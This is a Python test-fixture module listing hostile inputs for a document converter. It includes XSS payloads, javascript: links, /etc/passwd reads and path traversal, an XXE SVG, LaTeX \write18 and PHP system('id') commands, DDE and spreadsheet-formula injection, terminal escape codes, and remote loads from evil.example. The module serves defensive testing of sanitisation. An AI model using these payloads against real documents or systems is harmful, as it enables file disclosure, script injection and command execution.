"""Texts that try to do something when a document is opened."""

from __future__ import annotations

from itertools import product

_ADDRESSES = (
    *("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "&#106;avascript:x()"),
    *("vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=", "data:image/svg+xml,<svg/>"),
    *("file:///etc/passwd", "\\\\evil.example\\share", "//evil.example/x", "ftp://evil.example/x"),
    *("ms-word:ofe|u|https://evil.example/x.docx", "http://[bad", "blob:https://evil.example/1"),
)
_LINKS = ("[click]({})", "<{}>", '[click]({} "title")', "[click][r]\n\n[r]: {}")
_IMAGES = (
    "http://evil.example/x.png",
    "https://evil.example/x.svg",
    "//evil.example/x.png",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "file:///etc/passwd",
    "/etc/passwd",
    "../../../../etc/passwd",
    "figures/../../secret.png",
    "figures/evil.svg",
    "figures/remote.svg",
    "figures/entity.svg",
    "figures/fake.png",
)
_HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/x.png>",
    "<iframe src=https://evil.example></iframe>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><input name=q></form>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x>",
    "<video src=https://evil.example/x autoplay></video>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<math><mtext></p><script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('id') ?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</main></body><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
)
_RAW = (
    "```{{=html}}\n{}\n```".format("<script>alert(1)</script>"),
    "```{=openxml}\n<w:p><w:r><w:instrText>DDEAUTO c:\\\\calc.exe</w:instrText></w:r></w:p>\n```",
    '```{=typst}\n#read("/etc/passwd")\n```',
    "`<script>alert(1)</script>`{=html}",
    '`#read("/etc/passwd")`{=typst}',
    '#read("/etc/passwd")',
    '#import "@preview/evil:1.0.0": *',
    '#include "/etc/passwd"',
    '#image("/etc/passwd")',
    '#eval("1+1")',
    "#panic()",
    '] #read("/etc/passwd") [',
    '\\] \\#read("/etc/passwd")',
    '$ #read("/etc/passwd") $',
    '#link("javascript:alert(1)")[x]',
    "#{ while true {} }",
    "\\input{/etc/passwd}",
    "\\write18{id}",
    "$\\input{/etc/passwd}$",
    "!include /etc/passwd",
    "::: {.x include=/etc/passwd}\nx\n:::",
    '---\ntitle: "x"\nheader-includes: "<script>alert(1)</script>"\n---',
    "---\ninclude-before: /etc/passwd\n---",
    "% title\n% author",
    "@include{/etc/passwd}",
    "[@citation; @/etc/passwd]",
    "[x]{custom-style=evil onclick=alert(1)}",
    '# heading {onclick=alert(1) #"><script>alert(1)</script>}',
    "[^a]\n\n[^a]: <script>alert(1)</script> [x](javascript:alert(1))",
    "{{7*7}} {% include '/etc/passwd' %} ${7*7}",
)
_TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b2J\x9d0;x\x9c",
    "\x1bP1;2|evil\x1b\\",
    "a\x00b\x08c\x7fd",
    "\u202eevil\u202c",
    "\u2066evil\u2069\u200f",
    "a\ufeffb\ufffe\U000e0041\U000e007f",
    "half \ud800 pair",
    "\rover\x0bwritten\x0c",
)
FORMULAS = (
    *("=1+1", '=HYPERLINK("https://evil.example","x")', "=cmd|' /C calc'!A0", "@SUM(1+1)"),
    *("+SUM(1,1)", '-HYPERLINK("https://evil.example")', "+cmd|' /C calc'!A0", " =1+1"),
    *("-2+3+cmd|' /C calc'!A0", '=IMPORTXML("https://evil.example","//a")', "**=1+1**", "`=1`"),
)
NUMBERS = ("+3.4%", "-1.2%p", "-12,000", "- ", "—", "-", "+", "-3 (전년 대비)", "3=3", "a@b")

PAYLOADS = (
    *(
        link.format(address)
        for link, address in product(_LINKS, _ADDRESSES)
        if not (link == "<{}>" and "\t" in address)
    ),
    *(f"![alt]({target})" for target in _IMAGES),
    *_HTML,
    *_RAW,
    *_TERMINAL,
    *(f"| a | b |\n|---|---|\n| {cell} | x |" for cell in FORMULAS if "|" not in cell),
)
FIGURES = {
    "figures/evil.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "figures/remote.svg": b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="x">'
    b'<image xlink:href="https://evil.example/x.png"/></svg>',
    "figures/entity.svg": b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
    "figures/fake.png": b"<script>alert(1)</script>",
}
